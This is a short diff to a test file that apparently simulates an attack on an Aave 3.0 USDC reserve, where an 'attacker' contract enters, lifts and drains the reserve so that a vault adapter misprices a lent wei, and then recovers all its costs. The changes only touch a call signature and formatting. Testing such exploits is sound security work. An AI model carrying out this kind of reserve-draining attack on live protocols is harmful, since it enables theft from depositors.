@@ -60,10 +60,12 @@ describe("An emptied reserve of Aave 3.0", async () => {
     await attacker.write.enter([1n]);
     const start = await cash();
     await attacker.write.lift([usdc("10000000"), 30n], GAS);
-    await attacker.write.drain(GAS);
+    await attacker.write.drain([], GAS);
     assert.equal(await balance(tokens.usdc, aave.aTokens.usdc), 0n);
     const claim = await balance(aave.aTokens.usdc, adapter.address);
-    t.diagnostic(`lifting it costs ${show(start - (await cash()))}; a wei lent claims ${show(claim)} and is valued at ${await adapter.read.realAssets()} wei`);
+    t.diagnostic(
+      `lifting it costs ${show(start - (await cash()))}; a wei lent claims ${show(claim)} and is valued at ${await adapter.read.realAssets()} wei`,
+    );
     assert.ok(claim > usdc("100000"));
     assert.ok((await adapter.read.realAssets()) <= 2n);
     assert.ok((await cash()) >= start, "he has all of it back");
